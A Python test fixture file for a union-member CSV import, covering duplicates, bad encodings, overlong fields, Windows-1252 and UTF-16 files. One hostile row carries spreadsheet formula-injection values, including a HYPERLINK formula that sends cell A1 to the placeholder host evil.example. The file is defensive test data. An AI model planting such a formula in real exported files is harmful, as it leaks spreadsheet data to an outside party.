"""Member CSV files for import tests: a hostile one, with the report it must give."""

from __future__ import annotations

import csv
import io

LONG = "x" * 10_000


def _row(*cells: str) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="").writerow(cells)
    return out.getvalue().encode()


HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

# One row per line unless noted; the comment says what the import must do with it. Only a bad
# or missing address, or a duplicate, skips a row; a bad optional value is left out (a warning).
# Line 4 is added, with formula-like name, last name and workplace kept as written.
HOSTILE_LINES: list[bytes] = [
    b"\xef\xbb\xbfEmail,First name,Last name,Language,Postal code,Local,Workplace",  # 1 header
    "ana@example.org,Ana,Roy,fr,h2x1y4,Local 1004,Hôpital Notre-Dame".encode(),  # 2 added
    b"",  # 3 blank line
    _row("mal@example.org", HOSTILE_FORMULA, "+1-800-EVIL", "en", "", "Local 1004", "@SUM(1+1)"),
    b"BOB@Example.ORG,Bob,Tremblay,EN,T2P 1J9,Local 30,",  # 5 added (lower-cased)
    b"bob@example.org,Robert,Tremblay,en,,,",  # 6 duplicate of line 5
    b"chlo\xe9@example.org,Chlo\xe9,Martin,fr,,,",  # 7 address not valid UTF-8 (Latin-1 bytes)
    b"zoe@example.org,Zo\xe9,Martin,fr,,,",  # 8 added without the first name (not UTF-8)
    f"long@example.org,{LONG},Smith,en,,,".encode(),  # 9 added without the first name (> 1000)
    f"wide@example.org,{'y' * 300},Smith,en,,,".encode(),  # 10 added without it (> 200)
    b"not-an-email,Nadia,Ali,en,,,",  # 11 invalid email
    b",Nobody,Here,en,,,",  # 12 missing email
    b",,,,,,",  # 13 a row of empty cells: ignored like a blank line
    b'dee@example.org,Dee,"O\'Neil",en,,Local 30,"Warehouse\nDock 4"',  # 14-15 added
    b"Ana@EXAMPLE.org,Anna,,,,,",  # 16 duplicate of line 2
    b"sam@example.org,Sam,Lee,es,,,",  # 17 added in English (unknown language)
    b"",  # 18 blank
    b"",  # 19 blank
]
HOSTILE_CSV = b"\r\n".join(HOSTILE_LINES) + b"\r\n"

HOSTILE_ADDED = {
    "ana@example.org",
    "mal@example.org",
    "bob@example.org",
    "zoe@example.org",
    "long@example.org",
    "wide@example.org",
    "dee@example.org",
    "sam@example.org",
}
HOSTILE_SKIPS = [
    (6, "duplicate of line 5"),
    (7, "not valid UTF-8"),
    (11, "invalid email address"),
    (12, "missing email"),
    (16, "duplicate of line 2"),
]
# Imported, without the value each names (line, reason).
HOSTILE_WARNINGS = [
    (8, "field 'First name' is not valid UTF-8: imported without it"),
    (9, "field 'First name' is longer than 1000 characters: imported without it"),
    (10, "first name is longer than 200 characters: imported without it"),
    (17, "unknown language 'es' (use en or fr): imported without it (new members get English)"),
]

NO_EMAIL_COLUMN = b"Name,Phone\r\nAna Roy,555-0100\r\n"
NOT_CSV = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10" + bytes(range(256)) * 8
UTF16 = "email,first_name\r\nana@example.org,Ana\r\n".encode("utf-16")


def csv_bytes(*rows: str, header: str = "email,first_name,last_name,language,local") -> bytes:
    return ("\r\n".join([header, *rows]) + "\r\n").encode()


# Excel's "CSV (Comma delimited)" on a French-Canadian Windows: Windows-1252 bytes, semicolons,
# an accented header. Every row must import with its accents right.
WINDOWS_1252_TEXT = (
    "Courriel;Prénom;Nom;Langue;Section locale;Poste\r\n"
    "helene.berube@example.org;Hélène;Bérubé;fr;Section 301;Préposée\r\n"  # 2
    "francois@example.org;François;Lévesque;Français;Section 301;\r\n"  # 3
    "eloise@example.org;Éloïse;Côté;FR;Section 9;“Déléguée” syndicale\r\n"  # 4
    "ann.lee@example.org;Ann;Lee;en;Local 30;Steward\r\n"  # 5
    "andré@exemple.qc.ca;André;Gagné;fr;Section 9;Technicien en réfrigération\r\n"  # 6
)
WINDOWS_1252_CSV = WINDOWS_1252_TEXT.encode("cp1252")
WINDOWS_1252_MEMBERS = {
    "helene.berube@example.org": ("Hélène", "Bérubé", "fr", {"Poste": "Préposée"}),
    "francois@example.org": ("François", "Lévesque", "fr", {}),
    "eloise@example.org": ("Éloïse", "Côté", "fr", {"Poste": "“Déléguée” syndicale"}),
    "ann.lee@example.org": ("Ann", "Lee", "en", {"Poste": "Steward"}),
    "andré@exemple.qc.ca": ("André", "Gagné", "fr", {"Poste": "Technicien en réfrigération"}),
}
